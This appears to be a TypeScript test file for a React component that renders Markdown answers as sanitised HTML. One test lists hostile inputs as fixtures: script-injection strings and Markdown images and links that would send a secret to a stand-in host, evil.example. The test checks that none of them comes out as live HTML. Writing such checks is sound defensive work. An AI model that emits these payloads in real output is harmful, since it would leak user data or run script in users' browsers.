import assert from "node:assert/strict";
import { test } from "node:test";

import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";

import { Prose } from "@/components/prose";

const shown = (markdown: string) => renderToStaticMarkup(createElement(Prose, null, markdown)).replace(/ class="[^"]*"/g, "");
const inside = (markdown: string) => shown(markdown).replace(/^<div>(.*)<\/div>$/s, "$1");

test("simple Markdown is shown as what it means", () => {
  assert.equal(inside("**Two** are *due* today: `rent`"), "<p><strong>Two</strong> are <em>due</em> today: <code>rent</code></p>");
  assert.equal(inside("one\ntwo\n\nthree"), "<p>one<br/>two</p><p>three</p>");
  assert.equal(inside("# Today\n- milk\n- oats"), "<p>Today</p><ul><li>milk</li><li>oats</li></ul>");
  assert.equal(inside("a < b & c"), "<p>a &lt; b &amp; c</p>");
});

test("a list has the numbers that were written, since todos go by them", () => {
  assert.equal(inside("3. milk\n7. oats"), '<ol><li value="3">milk</li><li value="7">oats</li></ol>');
});

test("HTML, images and links of an answer do nothing", () => {
  const hostile = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    'hello <b onclick="x()">there</b>',
    "![pixel](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[your list](https://evil.example/?q=secret)",
    "<https://evil.example>",
    "https://evil.example",
    "| a | b |\n|---|---|\n| <img src=x> | ![i](https://evil.example) |",
    "[ref]\n\n[ref]: https://evil.example",
  ];
  for (const answer of hostile) {
    assert.doesNotMatch(shown(answer), /<(img|script|a|b|iframe|svg|object)\b|(src|href|style|on\w+)="/, answer);
  }
  assert.equal(inside("[your list](https://evil.example)"), "<p>your list (https://evil.example)</p>");
  assert.equal(inside("see https://example.org"), "<p>see https://example.org</p>");
});

test("an answer that is half there is shown as far as it goes", () => {
  for (const half of ["**bo", "`co", "```\ncode", "1. mi", "| a | b", "[li](ht", "> quo", "- "]) assert.ok(shown(half).includes("<"), half);
});
